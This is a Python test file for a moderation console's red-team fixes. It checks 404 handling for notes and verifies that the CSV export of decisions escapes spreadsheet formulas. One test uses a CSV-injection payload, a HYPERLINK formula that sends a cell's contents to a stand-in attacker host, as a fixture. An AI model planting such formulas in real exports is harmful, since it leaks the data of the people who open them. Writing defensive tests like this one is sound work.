"""Console findings of the second red-team pass (issue 21, finding 7), one test each."""

from __future__ import annotations

import csv
import io

from console_seed import ConsoleEnv, csrf_in
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from vigie.csv_safe import cell
from vigie.store.tables import AuditRow


def _post(client: TestClient, path: str, page: str = "/console/queues", **data: str) -> object:
    token = csrf_in(client.get(page).text)
    return client.post(path, data={"csrf": token, **data}, follow_redirects=False)


def test_a_note_on_a_case_that_does_not_exist_is_404(console: ConsoleEnv) -> None:
    mod = console.login("mod@vigie.test")
    answer = _post(mod, "/console/cases/no-such-case/notes", text="kept nowhere")
    assert answer.status_code == 404  # type: ignore[attr-defined]
    with console.app.state.store.read() as unit:
        notes = unit.session.scalar(
            select(func.count()).select_from(AuditRow).where(AuditRow.action == "case.note")
        )
    assert notes == 0
    ok = _post(mod, f"/console/cases/{console.demo_case}/notes", text="seen")
    assert ok.status_code == 303  # type: ignore[attr-defined]


def test_the_decisions_export_never_holds_a_formula(console: ConsoleEnv) -> None:
    mod = console.login("mod@vigie.test")
    _post(mod, "/console/cases/case-report/claim")
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"appeal")'
    _post(
        mod,
        "/console/cases/case-report/decide",
        kind="dismiss",
        rule="user_report",
        reason=formula,
    )
    text = console.login("audit@vigie.test").get("/console/decisions.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["reason"] == "'" + formula


def test_every_formula_start_is_neutralised_and_numbers_are_kept() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(start + "1+1") == "'" + start + "1+1"
    assert cell("a=1") == "a=1" and cell(-3) == -3 and cell("") == ""
